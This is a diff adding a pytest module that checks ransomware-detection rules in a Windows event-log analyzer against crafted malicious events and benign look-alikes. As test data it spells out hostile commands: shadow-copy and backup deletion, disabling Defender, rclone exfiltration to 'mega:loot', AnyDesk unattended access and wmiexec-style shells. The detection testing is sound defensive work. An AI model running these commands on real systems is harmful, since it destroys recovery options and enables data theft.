@@ -1,0 +1,272 @@
+"""Each ransomware-relevant rule of the built-in pack fires on the event it describes,
+and stays quiet on a close benign look-alike."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+from tests.analyzers.windows_evtx.evtx_helpers import run, write_jsonl
+
+SEC = {"Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing"}
+SYS = {"Channel": "System", "Provider_Name": "Service Control Manager"}
+SYSMON = {
+    "Channel": "Microsoft-Windows-Sysmon/Operational",
+    "Provider_Name": "Microsoft-Windows-Sysmon",
+}
+DEFENDER = {"Channel": "Microsoft-Windows-Windows Defender/Operational"}
+PSH = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+MSBUILD = "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe"
+REPL = "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
+
+
+def proc(
+    command: str, image: str, parent: str = "C:\\Windows\\System32\\cmd.exe"
+) -> dict[str, Any]:
+    return {**SYSMON, "EventID": 1, "Image": image, "CommandLine": command, "ParentImage": parent}
+
+
+CASES: list[tuple[str, dict[str, Any], dict[str, Any] | None]] = [
+    (
+        "Pass-the-hash shaped logon (type 9, seclogo)",
+        {
+            **SEC,
+            "EventID": 4624,
+            "LogonType": "9",
+            "LogonProcessName": "seclogo",
+            "AuthenticationPackageName": "Negotiate",
+        },
+        {
+            **SEC,
+            "EventID": 4624,
+            "LogonType": "2",
+            "LogonProcessName": "User32",
+            "AuthenticationPackageName": "Negotiate",
+        },
+    ),
+    (
+        "Kerberos service ticket requested with RC4 (Kerberoasting)",
+        {
+            **SEC,
+            "EventID": 4769,
+            "TicketEncryptionType": "0x17",
+            "Status": "0x0",
+            "ServiceName": "svc_sql",
+        },
+        {
+            **SEC,
+            "EventID": 4769,
+            "TicketEncryptionType": "0x17",
+            "Status": "0x0",
+            "ServiceName": "FS01$",
+        },
+    ),
+    (
+        "Kerberos ticket granted without pre-authentication (AS-REP roasting)",
+        {**SEC, "EventID": 4768, "PreAuthType": "0", "Status": "0x0"},
+        {**SEC, "EventID": 4768, "PreAuthType": "2", "Status": "0x0"},
+    ),
+    (
+        "Directory replication requested by a non-DC account (DCSync)",
+        {
+            **SEC,
+            "EventID": 4662,
+            "AccessMask": "0x100",
+            "SubjectUserName": "mallory",
+            "Properties": f"%%7688 {REPL} {{19195a5b-6da0-11d0-afd3-00c04fd930c9}}",
+        },
+        {
+            **SEC,
+            "EventID": 4662,
+            "AccessMask": "0x100",
+            "SubjectUserName": "DC02$",
+            "Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
+        },
+    ),
+    (
+        "Shadow copies deleted with vssadmin",
+        proc("vssadmin.exe Delete Shadows /All /Quiet", "C:\\Windows\\System32\\vssadmin.exe"),
+        proc("vssadmin.exe list shadows", "C:\\Windows\\System32\\vssadmin.exe"),
+    ),
+    (
+        "Windows backups deleted with wbadmin",
+        proc("wbadmin delete catalog -quiet", "C:\\Windows\\System32\\wbadmin.exe"),
+        proc("wbadmin get versions", "C:\\Windows\\System32\\wbadmin.exe"),
+    ),
+    (
+        "Windows recovery disabled with bcdedit",
+        proc("bcdedit /set {default} recoveryenabled No", "C:\\Windows\\System32\\bcdedit.exe"),
+        proc("bcdedit /enum", "C:\\Windows\\System32\\bcdedit.exe"),
+    ),
+    (
+        "Microsoft Defender weakened with Set-MpPreference / Add-MpPreference",
+        proc(
+            "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
+            PSH,
+        ),
+        proc(
+            "powershell Get-MpPreference",
+            PSH,
+        ),
+    ),
+    (
+        "Microsoft Defender real-time protection disabled (5001)",
+        {**DEFENDER, "EventID": 5001},
+        {**DEFENDER, "EventID": 5000},
+    ),
+    (
+        "Member added to a privileged group",
+        {
+            **SEC,
+            "EventID": 4732,
+            "TargetUserName": "Administrators",
+            "TargetSid": "S-1-5-32-544",
+            "MemberSid": "S-1-5-21-1-2-3-1010",
+        },
+        {
+            **SEC,
+            "EventID": 4732,
+            "TargetUserName": "Print Users",
+            "TargetSid": "S-1-5-21-1-2-3-2001",
+            "MemberSid": "S-1-5-21-1-2-3-1010",
+        },
+    ),
+    (
+        "Group named 'ESX Admins' created or renamed (CVE-2024-37085)",
+        {**SEC, "EventID": 4727, "TargetUserName": "ESX Admins"},
+        {**SEC, "EventID": 4727, "TargetUserName": "Web Admins"},
+    ),
+    (
+        "Remote management tool installed as a service",
+        {
+            **SYS,
+            "EventID": 7045,
+            "ServiceName": "AnyDesk Service",
+            "ImagePath": '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service',
+        },
+        {
+            **SYS,
+            "EventID": 7045,
+            "ServiceName": "Spooler helper",
+            "ImagePath": "C:\\Windows\\helper.exe",
+        },
+    ),
+    (
+        "AnyDesk installed silently or given an unattended password",
+        proc(
+            "cmd /c echo pass | C:\\ProgramData\\AnyDesk.exe --set-password",
+            "C:\\ProgramData\\AnyDesk.exe",
+        ),
+        None,
+    ),
+    (
+        "rclone used (cloud copy tool)",
+        proc("rc.exe copy \\\\fs01\\share mega:loot --transfers 8", "C:\\Users\\Public\\rc.exe")
+        | {"OriginalFileName": "rclone.exe"},
+        proc("robocopy \\\\fs01\\share D:\\backup", "C:\\Windows\\System32\\Robocopy.exe"),
+    ),
+    (
+        "restic backup to a remote repository",
+        proc(
+            "restic.exe -r s3:https://s3.example.net/bucket backup C:\\data",
+            "C:\\Tools\\restic.exe",
+        ),
+        proc("restic.exe -r D:\\repo backup C:\\data", "C:\\Tools\\restic.exe"),
+    ),
+    (
+        "PowerShell started with an encoded command",
+        proc(
+            "powershell.exe -NoP -enc SQBFAFgA",
+            PSH,
+        ),
+        proc(
+            "powershell.exe -File C:\\scripts\\report.ps1",
+            PSH,
+        ),
+    ),
+    (
+        "Command shell started by WMI (wmiprvse child)",
+        proc(
+            "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1",
+            "C:\\Windows\\System32\\cmd.exe",
+            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
+        ),
+        proc("cmd.exe /c dir", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\explorer.exe"),
+    ),
+    (
+        "Service installed with a command interpreter or user-writable path",
+        {
+            **SYS,
+            "EventID": 7045,
+            "ServiceName": "BTOBTO",
+            "ImagePath": "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output > %TEMP%\\x.bat",
+        },
+        {
+            **SYS,
+            "EventID": 7045,
+            "ServiceName": "Contoso Agent",
+            "ImagePath": '"C:\\Program Files\\Contoso\\agent.exe"',
+        },
+    ),
+    (
+        "Scheduled task runs a script host or a user-writable path",
+        {
+            **SEC,
+            "EventID": 4698,
+            "TaskName": "\\Updater",
+            "TaskContent": "<Exec><Command>powershell.exe</Command></Exec>",
+        },
+        {
+            **SEC,
+            "EventID": 4698,
+            "TaskName": "\\Contoso",
+            "TaskContent": "<Exec><Command>C:\\Program Files\\Contoso\\up.exe</Command></Exec>",
+        },
+    ),
+    (
+        "MSBuild run from a scheduled task with an XML project",
+        proc(
+            MSBUILD + " C:\\Users\\a\\AppData\\x.xml",
+            "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe",
+            "C:\\Windows\\System32\\svchost.exe",
+        ),
+        proc(
+            "MSBuild.exe app.sln", "C:\\BuildTools\\MSBuild.exe", "C:\\Windows\\System32\\cmd.exe"
+        ),
+    ),
+    (
+        "Vulnerable Netlogon secure channel connection (Zerologon)",
+        {"Channel": "System", "Provider_Name": "NETLOGON", "EventID": 5829},
+        {"Channel": "System", "Provider_Name": "NETLOGON", "EventID": 5719},
+    ),
+    (
+        "Remote Desktop authentication from an internet address (1149)",
+        {
+            "Channel": "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
+            "EventID": 1149,
+            "Param1": "alice",
+            "Param2": "EXAMPLE",
+            "Param3": "198.51.100.20",
+        },
+        {
+            "Channel": "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
+            "EventID": 1149,
+            "Param1": "alice",
+            "Param2": "EXAMPLE",
+            "Param3": "192.168.1.20",
+        },
+    ),
+]
+
+
+@pytest.mark.parametrize(("title", "event", "benign"), CASES, ids=[c[0][:40] for c in CASES])
+def test_rule_fires_on_its_event_and_not_on_the_look_alike(
+    tmp_path: Path, title: str, event: dict[str, Any], benign: dict[str, Any] | None
+) -> None:
+    base = {"Computer": "WS01", "EventRecordID": 1, "TimeCreated": "2024-04-12T00:00:00Z"}
+    hit = run(write_jsonl(tmp_path / "hit.jsonl", [base | event]))
+    assert title in hit.titles()
+    if benign is not None:
+        quiet = run(write_jsonl(tmp_path / "quiet.jsonl", [base | benign]))
+        assert title not in quiet.titles()
